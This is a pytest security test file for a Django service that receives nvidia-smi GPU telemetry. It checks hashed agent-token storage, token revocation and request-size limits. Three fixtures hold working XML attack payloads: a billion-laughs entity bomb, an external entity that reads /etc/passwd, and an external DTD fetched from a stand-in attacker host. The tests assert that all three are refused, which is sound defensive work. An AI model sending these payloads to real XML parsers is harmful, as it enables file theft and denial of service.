"""Agent tokens and the nvidia-smi push, from a security team's side.

- Tokens are stored hashed: no column holds the token, only a salt and the token's SHA-256.
- Revocation takes effect at once: after a rotation (API or admin) the old token is refused
  on its next push; a disabled agent's token is refused with a message; changing
  AGENT_TOKEN_KEY revokes every token.
- An XML bomb or external entity pushed over HTTP is refused (400) unexpanded, and shows on
  the agent; a body over the push limit is refused (413) from its declared length, unread.
"""

from __future__ import annotations

import hashlib
import re
import time
from datetime import UTC, datetime

import pytest
from django.forms.models import model_to_dict
from django.test import Client
from rest_framework.test import APIClient

from fleet.models import AuditEvent
from telemetry.models import Agent, AgentKind, GpuSample
from telemetry.tests.ingest_world import SHARED_CAPTURES, make_agent

pytestmark = pytest.mark.django_db

URL = "/api/v1/ingest/nvidia-smi/"
DISABLED = "Agent smi-01 is disabled; an admin must enable it before it can push."


def document(padding_bytes: int = 0) -> bytes:
    """The Tesla T4 capture stamped now, optionally padded with an XML comment."""
    moment = datetime.fromtimestamp(int(time.time()), tz=UTC)
    raw = (SHARED_CAPTURES / "tesla-t4.xml").read_text()
    raw = re.sub(r"<timestamp>[^<]*</timestamp>", f"<timestamp>{moment:%a %b %d %H:%M:%S %Y}</timestamp>", raw, count=1)
    if padding_bytes:
        raw = raw.replace("</nvidia_smi_log>", f"<!--{'x' * padding_bytes}--></nvidia_smi_log>")
    return raw.encode()


def push(token: str, body: bytes, **extra):
    return Client(REMOTE_ADDR="10.9.8.7").post(URL, body, content_type="application/xml",
                                                HTTP_AUTHORIZATION=f"Bearer {token}", **extra)


@pytest.fixture
def agent():
    return make_agent("smi-01", kind=AgentKind.NVIDIA_SMI)


def test_the_token_is_stored_only_as_a_salt_and_a_hash(agent):
    token = agent.token
    row = Agent.objects.filter(pk=agent.pk).values().get()

    assert token not in {str(value) for value in row.values()}
    assert row["token_sha256"] == hashlib.sha256(token.encode()).hexdigest()
    assert token not in str(list(AuditEvent.objects.values()))
    assert "token" not in model_to_dict(agent)  # not a field of any admin or API form


def test_a_token_rotated_through_the_api_is_refused_on_its_next_push(agent, admin_api):
    old = agent.token
    assert push(old, document()).status_code == 201

    new = admin_api.post(f"/api/v1/agents/{agent.pk}/rotate-token/").json()["token"]

    refused = push(old, document())
    assert refused.status_code == 401
    assert refused.json() == {"detail": "Invalid agent token."}
    assert push(new, document()).status_code in (201, 400)  # accepted (400 would be "stored before")
    assert new != old


def test_the_admins_new_tokens_action_revokes_the_old_token(agent, staff):
    old = agent.token
    staff.post("/admin/telemetry/agent/", {"action": "issue_new_tokens", "_selected_action": [agent.pk]})

    assert push(old, document()).status_code == 401


def test_a_disabled_agents_token_is_refused_until_it_is_enabled(agent, staff):
    staff.post("/admin/telemetry/agent/", {"action": "disable", "_selected_action": [agent.pk]})

    refused = push(agent.token, document())

    assert refused.status_code == 403
    assert refused.json() == {"detail": DISABLED}
    assert not GpuSample.objects.exists()
    staff.post("/admin/telemetry/agent/", {"action": "enable", "_selected_action": [agent.pk]})
    assert push(agent.token, document()).status_code == 201


def test_a_new_agent_token_key_revokes_every_token(agent, settings):
    old = agent.token
    settings.AGENT_TOKEN_KEY = "a-new-key-after-a-leak"

    assert push(old, document()).status_code == 401


def test_a_token_of_the_same_length_but_wrong_is_refused(agent):
    wrong = ("0" if agent.token[0] != "0" else "1") + agent.token[1:]
    assert push(wrong, document()).status_code == 401


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<nvidia_smi_log><timestamp>&lol9;</timestamp></nvidia_smi_log>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<nvidia_smi_log><timestamp>&secret;</timestamp></nvidia_smi_log>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE nvidia_smi_log SYSTEM "http://198.51.100.7/evil.dtd" [<!ENTITY % remote SYSTEM "http://198.51.100.7/x">
%remote;]>
<nvidia_smi_log/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "external-parameter-entity"])
def test_xml_bombs_and_external_entities_pushed_over_http_are_refused_unexpanded(agent, body):
    response = push(agent.token, body)

    assert response.status_code == 400
    detail = response.json()["detail"]
    assert detail.startswith("refused XML: ")
    assert "nvidia-smi documents declare no entities" in detail
    assert "lollol" not in detail
    assert "root:" not in detail
    agent.refresh_from_db()
    assert agent.last_error.startswith("nvidia-smi push refused: refused XML: ")
    assert not GpuSample.objects.exists()


def test_a_push_declaring_a_body_over_the_limit_is_refused_unread(agent, settings):
    settings.TELEMETRY_MAX_RESPONSE_BYTES = 1024 * 1024
    response = push(agent.token, document(), CONTENT_LENGTH=str(50 * 1024 * 1024))

    assert response.status_code == 413
    assert response.json() == {"detail": "The document exceeds 1048576 bytes (TELEMETRY_MAX_RESPONSE_BYTES)."}
    assert not GpuSample.objects.exists()


def test_a_push_larger_than_form_bodies_but_within_its_own_limit_is_stored(agent, settings):
    """The push has its own limit (TELEMETRY_MAX_RESPONSE_BYTES): the site-wide body limit for
    forms and JSON does not apply to it."""
    body = document(padding_bytes=settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1000)
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE < len(body) <= settings.TELEMETRY_MAX_RESPONSE_BYTES

    assert push(agent.token, body).status_code == 201


def test_an_unauthenticated_push_is_refused_before_its_body_is_read():
    response = APIClient().post(URL, b"x" * 100, content_type="application/xml",
                                HTTP_AUTHORIZATION="Bearer nope", CONTENT_LENGTH=str(10**9))
    assert response.status_code == 401
